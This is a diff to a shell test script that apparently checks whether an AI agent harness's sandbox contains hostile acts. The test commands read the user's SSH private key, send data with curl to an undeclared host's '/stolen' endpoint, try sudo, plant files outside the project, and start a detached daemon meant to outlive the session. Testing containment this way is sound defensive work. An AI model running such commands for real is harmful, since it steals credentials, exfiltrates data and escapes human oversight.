@@ -11,11 +11,12 @@
 # shellcheck source=tests/harness/cell.sh
 . "$tree/tests/harness/cell.sh"
 
-# Two steps: the act, then a file that is there only when the session went on.
+# Two steps: the act, then a file that is there only when the session went on.  An act that must end in
+# death waits for it.
 make_steps() { # command
 	/usr/bin/python3 -c 'import json, sys
 print(json.dumps([{"name": "act", "tool": "shell", "command": sys.argv[1]},
-                  {"name": "after", "tool": "shell", "command": "touch went-on; sleep 0.5"}]))' "$1" >/run/steps.json
+                  {"name": "after", "tool": "shell", "command": "touch went-on"}]))' "$1" >/run/steps.json
 }
 
 attempt() { # harness command
@@ -61,11 +62,11 @@ attack() { # harness
 	refute "$1, key in its own home: not there" sh -c 'echo "$1" | grep -q "secret key"' sh "$result"
 	ended "$1, key in its own home" clean
 
-	attempt "$1" 'cat /home/dev/.ssh/id_ed25519'
+	attempt "$1" 'cat /home/dev/.ssh/id_ed25519; sleep 20'
 	ended "$1, the user's key" escape /home/dev/.ssh
 	refute "$1, the user's key: not with the model" grep -q 'secret key' "/run/$1.log"
 
-	attempt "$1" "curl -s -m 5 http://$own_address:$door_port/stolen?data=1"
+	attempt "$1" "curl -s -m 5 http://$own_address:$door_port/stolen?data=1; sleep 20"
 	ended "$1, undeclared host" escape "$own_address"
 	refute "$1, undeclared host: nothing arrived" grep -q stolen /run/door.log
 
@@ -73,7 +74,7 @@ attack() { # harness
 	check "$1, undeclared name: not resolved" sh -c 'echo "$1" | grep -qi "resolve"' sh "$result"
 	ended "$1, undeclared name" clean
 
-	attempt "$1" 'sudo -n true'
+	attempt "$1" 'sudo -n true; sleep 20'
 	ended "$1, sudo" escape sudo
 
 	attempt "$1" 'echo planted >/home/dev/project/planted; echo planted >/home/dev/planted; true'
@@ -89,7 +90,7 @@ attack() { # harness
 	refute "$1, a foreign process: nothing read" grep -q OUTSIDE_CANARY "/run/$1.log"
 	ended "$1, a foreign process" clean
 
-	attempt "$1" 'setsid nohup sh -c "while :; do date >>daemon; sleep 0.2; done" >/dev/null 2>&1 & sleep 0.5'
+	attempt "$1" 'setsid nohup sh -c "while :; do date >>daemon; sleep 0.2; done" >/dev/null 2>&1 & until [ -s daemon ]; do sleep 0.1; done'
 	ended "$1, a daemon" clean
 	check "$1, a daemon: it ran" test -s "$project/daemon"
 	lines=$(wc -l <"$project/daemon")
@@ -115,7 +116,7 @@ controls() {
 }
 
 cell_setup || {
-	skip 'attacks by harnesses' 'needs tests/harness/install.sh to have run'
+	skip 'attacks by harnesses' 'needs tests/harness/00-packages.sh to have run'
 	finish
 }
 controls
